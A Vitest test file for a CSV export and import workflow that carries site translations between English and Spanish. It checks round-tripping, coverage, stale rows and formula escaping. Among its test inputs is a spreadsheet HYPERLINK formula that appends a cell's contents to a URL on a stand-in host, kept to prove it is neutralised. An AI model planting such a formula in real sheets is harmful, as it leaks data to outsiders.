import { cpSync, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, test } from 'vitest';
import { FIXTURE } from '@/tests/support/fixture';
import { tempFolder } from '@/tests/support/temp-folder';
import { filesIn, messagesIn } from '../check/check-content';
import { readContent } from '../check/read-content';
import { compareWithRecord, recordOf } from './record';
import { coverage, formatCsv, parseCsv, readSheet, sheetOf } from './sheet';
import { contentRows, messageRows } from './translatable-texts';

describe('a CSV file', () => {
  const header = ['en', 'es'];
  const cells = [
    ['plain', 'a "quote"', 'a, comma; and a semicolon', 'two\nlines', ''],
    ['<b>HTML</b>', '{year}', 'señal 🗳️', ' spaces ', '"'],
  ];

  test('gives back every cell as it was', () => {
    expect(parseCsv(formatCsv(cells))).toEqual(cells);
  });

  test.each([
    '=HYPERLINK("https://e.example/?"&A1,"Vea")',
    '+1 202 224-3121',
    '-1',
    '@cuenta',
    '\tsangrado',
    '\rretorno',
    '\notra línea',
    '＝1+1',
    "'=1+1",
    "''-dos",
    "'",
    "'Tis",
    "'ahora' no",
    '=',
  ])('calculates nothing of %j, and gives it back', (cell) => {
    const sheet = formatCsv([header, [cell, 'b']]);
    expect(sheet.split('\r\n')[1]?.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r\n＝]/);
    expect(parseCsv(sheet)?.[1]).toEqual([cell, 'b']);
  });

  test.each([
    ['whose apostrophes a spreadsheet has taken off', 'en,es\n-1,=1\n', ['-1', '=1']],
    ['with semicolons', 'en;es\r\n"1;2";3\r\n', ['1;2', '3']],
    ['with tabs', 'en\tes\n1;2\t3', ['1;2', '3']],
    ['with old line ends', '\ufeffen,es\r1;2,3\r', ['1;2', '3']],
  ])('%s is read as well', (_what, text, row) => {
    expect(parseCsv(text)).toEqual([header, row]);
  });

  test('with a quotation mark that nothing closes is refused', () => {
    expect(parseCsv('a,"b\n1,2\n')).toBeNull();
  });
});

describe('a sheet', () => {
  let folder: string;
  const at = (file: string) => join(folder, file);
  const site = () => at('content/es/site.json');
  const rally = (locale = 'es') => at(`content/${locale}/events/2021-10-24-2000.json`);
  const json = (path: string) => JSON.parse(readFileSync(path, 'utf8'));
  const content = () => contentRows(readContent(filesIn(at('content'))).files, 'es');
  const rows = () => [...content(), ...messageRows(messagesIn(at('messages')), 'es')];
  const textOf = (file: string) =>
    existsSync(at(file)) ? readFileSync(at(file), 'utf8') : undefined;
  const read = (sheet: string) =>
    readSheet(sheet, rows(), 'es', textOf) as Exclude<ReturnType<typeof readSheet>, string>;
  const lacking = () => rows().filter(({ translation }) => translation === null);

  beforeEach(() => {
    folder = tempFolder();
    cpSync(FIXTURE, at('content'), { recursive: true });
    cpSync('messages', at('messages'), { recursive: true });
  });

  function change(path: string, key: string, value: unknown) {
    const content = json(path);
    if (value === undefined) delete content[key];
    else content[key] = value;
    writeFileSync(path, `${JSON.stringify(content, null, 2)}\n`);
  }

  /** Exports a sheet, fills its empty cells and imports it. */
  function fill(words: (english: string) => string) {
    const [header, ...cells] = parseCsv(sheetOf(lacking(), 'es')) ?? [];
    const sheet = [header ?? [], ...cells.map((row) => row.with(3, words(row[2] ?? '')))];
    const reading = read(formatCsv(sheet));
    for (const [file, text] of reading.files) writeFileSync(at(file), text);
    return reading;
  }

  test('is empty while everything is translated; what others said is never in it', () => {
    expect(lacking()).toEqual([]);
    expect(rows().filter(({ file }) => /news|letters|partners/.test(file))).toEqual([]);
  });

  test('comes with how much is translated, by file and in all', () => {
    const count = rows().length;
    expect(coverage(rows())).toContain(`${count} of ${count} (100%)`);
    change(site(), 'intro_title', undefined);
    expect(coverage(rows())).toContain(`${count - 1} of ${count} (99%)`);
  });

  test('of everything, read back as it is, changes nothing', () => {
    const reading = read(sheetOf(rows(), 'es'));
    expect(reading).toMatchObject({ files: new Map(), written: 0, refused: [] });
  });

  test('brings back a text, a list, a file and a message, and changes nothing else', () => {
    const paths = [site(), rally(), at('messages/es.json'), at('messages/selfie.json')];
    const before = paths.map((path) => readFileSync(path, 'utf8'));
    const spanish = new Map(rows().map((row) => [`${row.file} ${row.key}`, row.translation]));
    change(site(), 'intro_title', undefined);
    change(site(), 'letter_figures', undefined);
    rmSync(rally());
    const [, , es = '', selfie = ''] = paths;
    const { share, ...others } = json(es);
    writeFileSync(es, JSON.stringify({ ...others, share: { ...share, title: '' } }, null, 2));
    change(selfie, 'es', Object.fromEntries(Object.entries(json(selfie).es).slice(1)));
    const sheet = parseCsv(sheetOf(lacking(), 'es')) ?? [];
    const filled = sheet.map((row, index) =>
      index === 0 ? row : row.with(3, spanish.get(`${row[0]} ${row[1]}`) ?? ''),
    );
    const { files, refused } = read(formatCsv(filled));
    expect(refused).toEqual([]);
    for (const [file, text] of files) writeFileSync(at(file), text);
    expect(paths.map(json)).toEqual(before.map((text) => JSON.parse(text)));
    expect(readFileSync(site(), 'utf8')).toBe(
      `${JSON.stringify(JSON.parse(before[0] ?? ''), null, 2)}\n`,
    );
  });

  test.each([
    ['quotes', 'Decimos “ahora” y "ya"'],
    ['commas and semicolons', 'uno, dos; tres'],
    ['lines', 'una línea\notra'],
    ['HTML', '<p>Llame <b>hoy</b>&nbsp;mismo</p>'],
    ['an emoji', 'Vote 🗳️ ya'],
    ['placeholders', '{year} {email} __HANDLE__'],
    ['a backslash', 'C:\\'],
    ['a sign that begins a formula', '-Únase, dijo'],
    ['an apostrophe before one', "'+ fuerza"],
  ])('keeps %s', (_what, words) => {
    change(site(), 'intro_title', undefined);
    expect(fill(() => words)).toMatchObject({ written: 1, refused: [] });
    expect(json(site()).intro_title).toBe(words);
  });

  test('gives a new entry a file of its words', () => {
    const added = { ...json(rally('en')), title: 'Vigil' };
    writeFileSync(at('content/en/events/vigil.json'), JSON.stringify(added));
    expect(fill((english) => `es ${english}`).refused).toEqual([]);
    expect(json(at('content/es/events/vigil.json'))).toEqual({
      title: 'es Vigil',
      description: `es ${added.description}`,
      place: `es ${added.place}`,
    });
  });

  test('writes a new list only as a whole', () => {
    change(site(), 'intro_demands', undefined);
    const [first] = json(at('content/en/site.json')).intro_demands;
    const { files, refused } = fill((english) => (english === first ? '' : english));
    expect(files.size).toBe(0);
    expect(refused).toEqual([expect.stringMatching(/still empty: intro_demands\[0\]\.$/)]);
  });

  test('refuses a row whose English or Spanish has changed since, and says so', () => {
    const english = at('content/en/site.json');
    const sheet = sheetOf(rows(), 'es').replaceAll('Exigimos', 'Pedimos').replace('Donar', 'Done');
    change(english, 'intro_demands_title', 'We want:');
    change(site(), 'intro_title', 'Otro');
    const { refused } = read(sheet);
    expect(refused).toEqual([
      expect.stringMatching(/intro_title: somebody else has translated it since: “Otro”/),
      expect.stringMatching(/intro_demands_title: the English has changed since; .* “We want:”/),
    ]);
  });

  test('that is no such sheet is refused in a sentence', () => {
    expect(read('a,b\n1,2\n')).toMatch(/^The first row must be: file, key, en, es, version\./);
  });

  describe('the record of the English that translations were made from', () => {
    const english = () => at('content/en/site.json');
    const places = (some: ReturnType<typeof rows>) => some.map(({ place }) => place);
    const changedBy = (make: () => void) => {
      const record = recordOf(content(), {});
      make();
      const { stale, unrecorded } = compareWithRecord(content(), record);
      return { record, stale: places(stale), unrecorded: places(unrecorded) };
    };

    test('has one sorted line for each translation', () => {
      const record = recordOf(content(), {});
      expect(Object.keys(record)).toEqual(Object.keys(record).toSorted());
      expect(Object.keys(record)).toHaveLength(content().length);
      expect(record['site intro_title']).toMatch(/^[0-9a-f]{8} Which side are you on\?$/);
    });

    test('finds a translation whose English has changed, until that has changed too', () => {
      const changed = changedBy(() => change(english(), 'intro_title', 'Whose side are you on?'));
      expect(changed.stale).toEqual(['content/es/site.json intro_title']);
      expect(changed.unrecorded).toEqual([]);
      change(site(), 'intro_title', '¿Del lado de quién está?');
      expect(compareWithRecord(content(), changed.record).stale).toEqual([]);
    });

    test('is kept for what is stale, unless somebody says that it is right still', () => {
      const { record } = changedBy(() =>
        change(english(), 'intro_title', 'Whose side are you on?'),
      );
      const kept = recordOf(content(), record);
      expect(kept).toEqual(record);
      expect(places(compareWithRecord(content(), kept).stale)).toHaveLength(1);
      const { confirmed } = read(sheetOf(content(), 'es'));
      const renewed = recordOf(content(), record, confirmed);
      expect(compareWithRecord(content(), renewed)).toEqual({ stale: [], unrecorded: [] });
    });

    test('knows new translations, which are not stale', () => {
      const { stale, unrecorded } = changedBy(() => {
        for (const locale of ['en', 'es']) {
          const vigil = at(`content/${locale}/events/vigil.json`);
          const { description } = json(rally(locale));
          writeFileSync(vigil, JSON.stringify({ title: `Vigil ${locale}`, description }));
        }
      });
      expect(stale).toEqual([]);
      const vigil = 'content/es/events/vigil.json';
      expect(unrecorded).toEqual([`${vigil} title`, `${vigil} description`]);
    });
  });
});
